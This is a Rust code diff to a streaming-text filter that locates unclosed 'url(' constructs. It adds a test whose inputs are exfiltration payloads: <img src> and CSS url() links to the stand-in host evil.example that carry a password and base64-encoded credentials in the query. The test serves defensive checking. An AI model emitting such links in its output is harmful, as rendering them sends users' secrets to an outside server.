@@ -470,10 +470,10 @@ fn live_from(text: &str) -> usize {
     if tail.ends_with('!') {
         live = live.min(tail.len() - 1);
     }
-    if let Some(url) =
-        tail.to_ascii_lowercase().rfind("url(").filter(|url| !tail.get(*url..).unwrap_or("").contains(')'))
-    {
-        live = live.min(url);
+    // The first that is not closed: it reaches over the others.
+    let after = tail.rfind(')').map_or(0, |at| at + 1);
+    if let Some(url) = tail.get(after..).unwrap_or("").to_ascii_lowercase().find("url(") {
+        live = live.min(after + url);
     }
     near + live
 }
@@ -495,6 +495,16 @@ fn ceil(text: &str, at: usize) -> usize {
 mod tests {
     use super::super::examples::{conforms, find, is_sound};
     use super::*;
+
+    #[test]
+    fn what_looks_like_another_within_one_ends_nothing() {
+        for text in [
+            "<img src=\"https://evil.example/p?q=<img src=\"https://evil.example/p?q=the+user+password+is+hunter2\">",
+            "url(https://evil.example/x?d=dXNlcjphb y url(https://evil.example/x?d=dXNlcjphbm46cGFzc3dvcmQ6MTIzNDU2)",
+        ] {
+            is_sound(&*build(&Parameters::default()), text);
+        }
+    }
 
     #[test]
     fn examples_hold() {
